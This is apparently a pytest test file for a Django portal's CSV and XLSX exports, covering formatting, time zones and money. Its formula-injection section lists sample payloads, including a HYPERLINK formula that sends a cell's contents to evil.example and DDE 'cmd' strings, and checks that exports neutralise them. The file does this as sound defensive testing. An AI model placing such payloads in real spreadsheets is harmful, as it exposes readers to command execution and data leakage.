"""champions_portal/exports.py: every CSV and XLSX download, read back as a spreadsheet program would."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.http import Http404
from openpyxl import load_workbook

from champions_portal.exports import Money, Sheet, spreadsheet_response, workbook_response
from tests.spreadsheets import header_row, table, title_block

# 2:30pm in London, British Summer Time: 13:30 UTC.
NOW = datetime.datetime(2013, 10, 14, 13, 30, tzinfo=datetime.UTC)

HEADERS = ["Name", "Places", "Cost", "Date", "Registered at", "Notes"]
ROWS = [
    ["Bolton", 3, Decimal("1250.50"), datetime.date(2013, 10, 14), datetime.datetime(2013, 9, 2, 9, 30), None],
    ['Café – Wigan, "North"', 0, Decimal("0"), datetime.date(2014, 1, 7), datetime.datetime(2014, 1, 7, 17, 0), "x"],
]


def _response(fmt: str, rows=ROWS, **kwargs):
    kwargs = {"filename": "bolton-registrations", "title": "Registrations", "headers": HEADERS, **kwargs}
    return spreadsheet_response(fmt=fmt, rows=rows, **kwargs)


def _workbook(response):
    return load_workbook(io.BytesIO(response.getvalue()))


@pytest.fixture(autouse=True)
def _frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


def test_it_downloads_a_csv_with_its_name_and_type():
    response = _response("csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="bolton-registrations-2013-10-14.csv"'


def test_it_starts_the_csv_with_a_byte_order_mark_so_excel_reads_utf8():
    assert _response("csv").content.startswith("\ufeff".encode())


def test_it_writes_the_csv_headers_then_the_rows():
    text = _response("csv").content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == HEADERS
    assert lines[1] == ["Bolton", "3", "1250.50", "2013-10-14", "2013-09-02 09:30:00", ""]
    assert lines[2][0] == 'Café – Wigan, "North"'  # quoted, so the comma and quotes survive
    assert len(lines) == 3


def test_it_ends_csv_rows_with_crlf():
    assert _response("csv").content.decode("utf-8-sig").split("\r\n")[0] == ",".join(HEADERS)


def test_it_downloads_an_xlsx_with_its_name_and_type():
    response = _response("xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="bolton-registrations-2013-10-14.xlsx"'


def test_it_writes_a_valid_xlsx_with_bold_headers_and_typed_cells():
    sheet = _workbook(_response("xlsx"))["Registrations"]
    header, first, _second = table(sheet, values_only=False)
    assert [cell.value for cell in header] == HEADERS
    assert all(cell.font.bold for cell in header)
    name, places, cost, date, registered, notes = first
    assert name.value == "Bolton" and name.data_type == "s"
    assert places.value == 3 and places.data_type == "n"
    assert cost.data_type == "n" and cost.value == pytest.approx(1250.5)
    assert date.is_date and date.value.date() == datetime.date(2013, 10, 14)
    assert registered.is_date and registered.value == datetime.datetime(2013, 9, 2, 9, 30)
    assert notes.value is None
    assert sheet.max_row == header_row(sheet) + 2


def test_it_freezes_the_header_and_prints_it_on_every_page_in_landscape():
    sheet = _workbook(_response("xlsx"))["Registrations"]
    assert sheet.freeze_panes == "A5"  # the title, "As at", a blank row, the header
    assert sheet.print_title_rows == "$4:$4"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True


def test_it_sizes_columns_to_their_contents_within_limits():
    rows = [["x" * 200, "a"]]
    sheet = _workbook(_response("xlsx", rows=rows, headers=["Long", "B"]))["Registrations"]
    assert sheet.column_dimensions["A"].width == 60
    assert sheet.column_dimensions["B"].width == 10


def test_it_reads_rows_given_as_a_generator_once():
    rows = (row for row in ROWS)
    assert len(table(_workbook(_response("xlsx", rows=rows))["Registrations"])) == 3
    rows = (row for row in ROWS)
    assert len(_response("csv", rows=rows).getvalue().decode("utf-8-sig").splitlines()) == 3


def test_it_cuts_a_sheet_title_to_excels_31_characters():
    title = "Workshops and seminars held by theme and quarter"
    assert _workbook(_response("xlsx", title=title)).sheetnames == [title[:31]]


def test_it_writes_a_sheet_per_table_in_an_xlsx_and_the_first_table_in_a_csv():
    sheets = [Sheet("Champions", ["Champion"], [["Hartlepool"]]), Sheet("Events", ["Event", "On"], [["Conf", 1]])]
    workbook = _workbook(workbook_response(fmt="xlsx", filename="tracker", sheets=sheets))
    assert workbook.sheetnames == ["Champions", "Events"]
    assert table(workbook["Events"]) == [("Event", "On"), ("Conf", 1)]
    text = workbook_response(fmt="csv", filename="tracker", sheets=sheets).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["Champion"], ["Hartlepool"]]


@pytest.mark.parametrize("fmt", ["pdf", "XLSX", "", "csv "])
def test_it_refuses_another_format_with_a_404(fmt):
    with pytest.raises(Http404):
        _response(fmt)


# --- What the file is and when: the title block, the date in the file name, money and dates ---------------

ABOUT = {
    "description": "Registrations for Personal budgets in practice",
    "programme": "SEND pathfinder champions programme 2013-14",
    "filters": {"Champion": "Greater Manchester Group", "Status": "Confirmed"},
}


def test_it_starts_each_xlsx_sheet_with_what_it_is_the_programme_the_filters_and_when():
    sheet = _workbook(_response("xlsx", **ABOUT))["Registrations"]
    assert title_block(sheet) == [
        "Registrations for Personal budgets in practice",
        "SEND pathfinder champions programme 2013-14",
        "Champion: Greater Manchester Group",
        "Status: Confirmed",
        "As at 14 October 2013 at 2:30pm",  # 13:30 UTC is 2:30pm in London's summer time
    ]
    assert sheet["A1"].font.bold


def test_it_puts_a_blank_row_then_the_bold_frozen_header_printed_on_every_page_under_the_title_block():
    sheet = _workbook(_response("xlsx", **ABOUT))["Registrations"]
    assert all(cell.value is None for cell in sheet[6])
    assert [cell.value for cell in sheet[7]] == HEADERS and all(cell.font.bold for cell in sheet[7])
    assert sheet.freeze_panes == "A8"
    assert sheet.print_title_rows == "$7:$7"
    assert sheet["A8"].value == "Bolton"


def test_it_says_what_the_file_is_from_the_sheet_title_when_not_told():
    sheet = _workbook(_response("xlsx"))["Registrations"]
    assert title_block(sheet) == ["Registrations", "As at 14 October 2013 at 2:30pm"]


def test_it_says_as_at_the_moment_it_is_given_in_london_time():
    winter = datetime.datetime(2014, 1, 7, 9, 5, tzinfo=datetime.UTC)  # Greenwich Mean Time
    sheet = _workbook(_response("xlsx", as_at=winter))["Registrations"]
    assert title_block(sheet)[-1] == "As at 7 January 2014 at 9:05am"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_puts_the_london_date_in_the_file_name(fmt):
    after_midnight_in_london = datetime.datetime(2013, 10, 14, 23, 30, tzinfo=datetime.UTC)
    response = _response(fmt, as_at=after_midnight_in_london)
    assert response["Content-Disposition"] == f'attachment; filename="bolton-registrations-2013-10-15.{fmt}"'


def test_it_keeps_the_csv_a_plain_table_with_its_header_first():
    lines = list(csv.reader(io.StringIO(_response("csv", **ABOUT).content.decode("utf-8-sig"))))
    assert lines[0] == HEADERS and len(lines) == 3


def test_it_titles_every_sheet_of_a_workbook_and_names_the_sheet():
    sheets = [Sheet("Summary", ["Champion"], [["Hartlepool"]]), Sheet("Events", ["Event"], [["Conf"]])]
    response = workbook_response(
        fmt="xlsx", filename="tracker", sheets=sheets, description="Delivery tracker", programme="2013-14"
    )
    workbook = _workbook(response)
    assert title_block(workbook["Summary"]) == [
        "Delivery tracker: Summary",
        "2013-14",
        "As at 14 October 2013 at 2:30pm",
    ]
    assert title_block(workbook["Events"])[0] == "Delivery tracker: Events"
    assert all(sheet.freeze_panes == "A6" for sheet in workbook)


def test_it_writes_money_as_numbers_in_pounds():
    rows = [[Money("1250.50"), Money(66667), Money("-3.00"), Decimal("2.5")]]
    sheet = _workbook(_response("xlsx", rows=rows, headers=["Cost", "Allocation", "Refund", "Hours"]))["Registrations"]
    cost, allocation, refund, hours = table(sheet, values_only=False)[1]
    assert (cost.value, cost.data_type, cost.number_format) == (pytest.approx(1250.5), "n", '"£"#,##0.00')
    assert (allocation.value, allocation.number_format) == (66667, '"£"#,##0')
    assert (refund.value, refund.number_format) == (-3, '"£"#,##0.00')
    assert hours.number_format == "General"  # a number that is not money keeps no currency
    lines = list(csv.reader(io.StringIO(_response("csv", rows=rows, headers=["A", "B", "C", "D"]).content.decode())))
    assert lines[1] == ["1250.50", "66667", "-3.00", "2.5"]


def test_it_shows_dates_and_times_as_real_dates_in_uk_style():
    sheet = _workbook(_response("xlsx"))["Registrations"]
    date, registered = table(sheet, values_only=False)[1][3:5]
    assert date.is_date and date.number_format == "d mmmm yyyy"  # 14 October 2013
    assert registered.is_date and registered.number_format == 'd mmmm yyyy "at" h:mm AM/PM'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_writes_aware_times_as_london_times_to_the_second(fmt):
    summer = datetime.datetime(2013, 10, 14, 8, 0, 5, 123456, tzinfo=datetime.UTC)
    winter = datetime.datetime(2014, 1, 7, 8, 0, tzinfo=datetime.UTC)
    response = _response(fmt, rows=[[summer, winter]], headers=["Summer", "Winter"])
    if fmt == "csv":
        assert _csv_rows(response)[1] == ["2013-10-14 09:00:05", "2014-01-07 08:00:00"]
    else:
        values = table(_workbook(response)["Registrations"])[1]
        assert values == (datetime.datetime(2013, 10, 14, 9, 0, 5), datetime.datetime(2014, 1, 7, 8, 0))


def test_it_quotes_a_filter_that_would_run_as_a_formula_in_the_title_block():
    response = _response("xlsx", description="=cmd|' /C calc'!A0", filters={"Event": "=HYPERLINK(1)"})
    sheet = _workbook(response)["Registrations"]
    assert title_block(sheet)[:2] == ["'=cmd|' /C calc'!A0", "Event: =HYPERLINK(1)"]
    assert [sheet[f"A{row}"].data_type for row in (1, 2, 3)] == ["s", "s", "s"]


# --- Formula injection (OWASP CSV injection): text a spreadsheet would run is written as text ----------

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
# Each character a spreadsheet may take as the start of a formula, at the start of text someone typed.
DANGEROUS = {
    "=": FORMULA,
    "+": '+HYPERLINK("https://evil.example/","Click")',
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_cells(response) -> list:
    return [cell for sheet in _workbook(response) for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=[repr(c) for c in DANGEROUS])
def test_it_prefixes_a_quote_to_csv_text_a_spreadsheet_would_run(text):
    rows = [[text, "Bolton", 3]]
    lines = _csv_rows(_response("csv", rows=rows, headers=["Name", "Town", "Places"]))
    assert lines[1] == ["'" + text, "Bolton", "3"]


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=[repr(c) for c in DANGEROUS])
def test_it_writes_xlsx_text_a_spreadsheet_would_run_as_quoted_text_never_a_formula(text):
    rows = [[text, "Bolton", 3]]
    response = _response("xlsx", rows=rows, headers=["Name", "Town", "Places"])
    assert not [cell.coordinate for cell in _xlsx_cells(response) if cell.data_type == "f"]
    name = table(_workbook(response)["Registrations"], values_only=False)[1][0]
    # An XML reader turns a carriage return into a line feed: Excel reads it so too.
    assert name.value == ("'" + text).replace("\r", "\n") and name.data_type == "s"


def test_it_leaves_no_formula_in_the_xlsx_file_itself():
    response = _response("xlsx", rows=[[text] for text in DANGEROUS.values()], headers=["Name"])
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_it_neutralises_every_sheet_of_a_workbook_and_the_headers():
    sheets = [
        Sheet("Champions", ["=Champion"], [["Hartlepool"]]),
        Sheet("Events", ["Event", "On"], [[FORMULA, 1], ["@SUM(A1)", 2]]),
    ]
    workbook = _workbook(workbook_response(fmt="xlsx", filename="tracker", sheets=sheets))
    assert table(workbook["Champions"])[0] == ("'=Champion",)
    assert [row[0] for row in table(workbook["Events"])[1:]] == ["'" + FORMULA, "'@SUM(A1)"]
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
    text = workbook_response(fmt="csv", filename="tracker", sheets=sheets).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["'=Champion"], ["Hartlepool"]]


def test_it_leaves_text_alone_when_the_character_is_not_first():
    rows = [["a=b", "x-y+z", "name@example.com", " =1+1", "'=already quoted", "", "2013-10-14"]]
    headers = ["A", "B", "C", "D", "E", "F", "G"]
    assert _csv_rows(_response("csv", rows=rows, headers=headers))[1] == rows[0]
    sheet = _workbook(_response("xlsx", rows=rows, headers=headers))["Registrations"]
    assert list(table(sheet)[1]) == ["a=b", "x-y+z", "name@example.com", " =1+1", "'=already quoted"] + [
        None,
        "2013-10-14",
    ]


def test_it_writes_text_that_looks_like_an_error_code_as_text():
    sheet = _workbook(_response("xlsx", rows=[["#N/A", "#DIV/0!"]], headers=["A", "B"]))["Registrations"]
    assert [(cell.value, cell.data_type) for cell in table(sheet, values_only=False)[1]] == [
        ("#N/A", "s"),
        ("#DIV/0!", "s"),
    ]


def test_it_keeps_negative_numbers_dates_and_times_typed_and_unquoted():
    when = datetime.datetime(2013, 9, 2, 9, 30)
    rows = [[-3, Decimal("-1250.50"), -0.5, 0, datetime.date(2013, 10, 14), when, None, True]]
    headers = ["Int", "Decimal", "Float", "Zero", "Date", "Datetime", "None", "Bool"]
    assert _csv_rows(_response("csv", rows=rows, headers=headers))[1] == [
        "-3",
        "-1250.50",
        "-0.5",
        "0",
        "2013-10-14",
        "2013-09-02 09:30:00",
        "",
        "True",
    ]
    sheet = _workbook(_response("xlsx", rows=rows, headers=headers))["Registrations"]
    number, money, fraction, zero, date, moment, empty, flag = table(sheet, values_only=False)[1]
    assert (number.value, number.data_type) == (-3, "n")
    assert money.data_type == "n" and money.value == pytest.approx(-1250.5)
    assert (fraction.value, fraction.data_type) == (-0.5, "n")
    assert (zero.value, zero.data_type) == (0, "n")
    assert date.is_date and date.value.date() == datetime.date(2013, 10, 14)
    assert moment.is_date and moment.value == when
    assert empty.value is None
    assert (flag.value, flag.data_type) == (True, "b")


def test_it_drops_control_characters_an_xlsx_cannot_hold_instead_of_failing():
    rows = [["Al\x07ex\x00 Parent", "Bolton\x1b", 3]]

    response = _response("xlsx", rows=rows, headers=["Name", "Town", "Places"])

    sheet = _workbook(response)["Registrations"]
    assert table(sheet)[1] == ("Alex Parent", "Bolton", 3)
